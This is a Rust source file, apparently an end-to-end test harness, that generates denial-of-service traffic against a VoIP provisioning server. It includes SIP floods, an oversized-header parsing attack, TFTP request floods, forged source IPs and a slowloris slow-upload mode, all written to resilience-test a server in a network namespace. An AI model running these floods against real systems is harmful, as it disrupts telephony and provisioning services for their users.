//! `flood KIND HOST:PORT SECONDS PACKETS_PER_SECOND SOURCE_IP...` and
//! `flood slow-http HOST:PORT SECONDS CONNECTIONS_PER_SOURCE SOURCE_IP...`: what a flooding
//! attacker does, for tests in a network namespace only (it stops by itself and sends
//! nowhere but HOST:PORT). For the datagram floods, one socket per source address, taking
//! turns, paced to the total rate (the first packet goes at once):
//! - `sip`: REGISTER, OPTIONS and INVITE without credentials, for made-up users, each with a
//!   fresh Call-ID and branch (what a scanner sends, and what a server must parse);
//! - `invite`: INVITEs only, likewise;
//! - `big-sip`: OPTIONS with 5,000 header lines (about 60 KB), the parsing-cost attack;
//! - `tftp`: read requests for the SIP\<MAC\>.cnf of 5,000 made-up Cisco phones, never acknowledged (every
//!   one starts a transfer the server retransmits, or records an unknown phone);
//! - `tftp:NAME`: read requests for NAME, never acknowledged;
//! - `file:PATH`: the bytes of PATH, as they are.
//!
//! A SOURCE may name a port too (`192.168.77.11:5099`), and may be an address that is not
//! the host's own: a forged source (IP_TRANSPARENT: run as root).
//!
//! Replies are read and counted but never answered. Prints `sent N received M rate R/s`.
//!
//! `slow-http` opens that many connections from each source, each starting a 2 MB upload
//! to `/bria` (the form the provisioning server reads), sending half of it at once and then
//! a byte a second ("slowloris"). Prints `held H of N`: the
//! connections the server still had open at the end.

use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

fn sip(method: &str, n: u64, from: SocketAddr, to: SocketAddr, extra: &str) -> Vec<u8> {
    let user = 100 + n % 900;
    let host = to.ip();
    format!(
        "{method} sip:{user}@{host} SIP/2.0\r\n\
         Via: SIP/2.0/UDP {from};branch=z9hG4bK-flood-{n}\r\n\
         Max-Forwards: 70\r\n\
         From: <sip:{user}@{host}>;tag=f{n}\r\n\
         To: <sip:{user}@{host}>\r\n\
         Call-ID: flood-{n}@{from}\r\n\
         CSeq: 1 {method}\r\n\
         Contact: <sip:{user}@{from}>\r\n\
         User-Agent: friendly-scanner\r\n{extra}\
         Content-Length: 0\r\n\r\n"
    )
    .into_bytes()
}

fn rrq(name: &str) -> Vec<u8> {
    [&[0, 1], name.as_bytes(), b"\0octet\0"].concat()
}

/// The `n`th packet of a flood of `kind`.
fn packet(kind: &str, n: u64, from: SocketAddr, to: SocketAddr) -> Vec<u8> {
    match kind {
        "sip" => sip(
            ["REGISTER", "OPTIONS", "INVITE"][(n % 3) as usize],
            n,
            from,
            to,
            "",
        ),
        "invite" => sip("INVITE", n, from, to, ""),
        "big-sip" => {
            let extra: String = (0..5000).map(|i| format!("X-{i}: v\r\n")).collect();
            sip("OPTIONS", n, from, to, &extra)
        }
        "tftp" => rrq(&format!("SIP{:012X}.cnf", 0x0011_2233_0000u64 + n % 5000)),
        other => match (other.strip_prefix("tftp:"), other.strip_prefix("file:")) {
            (Some(name), _) => rrq(name),
            (_, Some(path)) => std::fs::read(path).expect("the packet's file"),
            _ => panic!("no flood of kind {other}"),
        },
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let usage = "usage: flood sip|tftp HOST:PORT SECONDS PACKETS_PER_SECOND SOURCE_IP...";
    let kind = args.first().cloned().expect(usage);
    let to: SocketAddr = args.get(1).and_then(|a| a.parse().ok()).expect(usage);
    let seconds: f64 = args.get(2).and_then(|a| a.parse().ok()).expect(usage);
    let pps: f64 = args.get(3).and_then(|a| a.parse().ok()).expect(usage);
    let sources: Vec<SocketAddr> = args[4..]
        .iter()
        .map(|a| {
            a.parse::<SocketAddr>()
                .or_else(|_| a.parse::<IpAddr>().map(|ip| SocketAddr::new(ip, 0)))
                .expect(usage)
        })
        .collect();
    assert!(!sources.is_empty(), "{usage}");
    if kind == "slow-http" {
        return slow_http(to, seconds, pps as usize, &sources);
    }
    let socks: Vec<(UdpSocket, SocketAddr)> = sources
        .iter()
        .map(|ip| {
            let s = e2e::netns::udp_from(*ip).expect("a socket on the source address");
            s.set_nonblocking(true).expect("non-blocking");
            let local = s.local_addr().expect("bound");
            (s, local)
        })
        .collect();
    let start = Instant::now();
    let end = start + Duration::from_secs_f64(seconds);
    let (mut sent, mut received) = (0u64, 0u64);
    let mut buf = [0u8; 4096];
    loop {
        let now = Instant::now();
        if now >= end {
            break;
        }
        // Send what the rate allows by now, then read what came back.
        let due = (now.duration_since(start).as_secs_f64() * pps) as u64 + 1;
        while sent < due {
            let (sock, local) = &socks[(sent % socks.len() as u64) as usize];
            // A full send buffer drops the packet, as a flood would lose it anyway.
            let _ = sock.send_to(&packet(&kind, sent, *local, to), to);
            sent += 1;
        }
        for (sock, _) in &socks {
            while sock.recv_from(&mut buf).is_ok() {
                received += 1;
            }
        }
        std::thread::sleep(Duration::from_micros(200));
    }
    let took = start.elapsed().as_secs_f64();
    println!(
        "sent {sent} received {received} rate {:.0}/s",
        sent as f64 / took
    );
}

/// Opens `each` trickling uploads from every source; prints how many were still open after
/// `seconds`.
fn slow_http(to: SocketAddr, seconds: f64, each: usize, sources: &[SocketAddr]) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("a runtime");
    let held = rt.block_on(async {
        let mut tasks = Vec::new();
        for ip in sources {
            for _ in 0..each {
                let ip = ip.ip();
                tasks.push(tokio::spawn(async move {
                    let sock = tokio::net::TcpSocket::new_v4().ok()?;
                    sock.bind((ip, 0).into()).ok()?;
                    let mut s = sock.connect(to).await.ok()?;
                    let head = format!(
                        "POST /bria HTTP/1.1\r\nHost: {}\r\n\
                         Content-Type: application/x-www-form-urlencoded\r\n\
                         Content-Length: 2000000\r\n\r\n",
                        to.ip()
                    );
                    s.write_all(head.as_bytes()).await.ok()?;
                    s.write_all(&[b'x'; 1_000_000]).await.ok()?;
                    let end = tokio::time::Instant::now() + Duration::from_secs_f64(seconds);
                    let mut b = [0u8; 512];
                    while tokio::time::Instant::now() < end {
                        s.write_all(b"x").await.ok()?;
                        let read = tokio::time::timeout(Duration::from_secs(1), s.read(&mut b));
                        if let Ok(Ok(0) | Err(_)) = read.await {
                            return None;
                        }
                    }
                    Some(())
                }));
            }
        }
        let mut held = 0;
        for t in tasks {
            held += usize::from(matches!(t.await, Ok(Some(()))));
        }
        held
    });
    println!("held {held} of {}", each * sources.len());
}
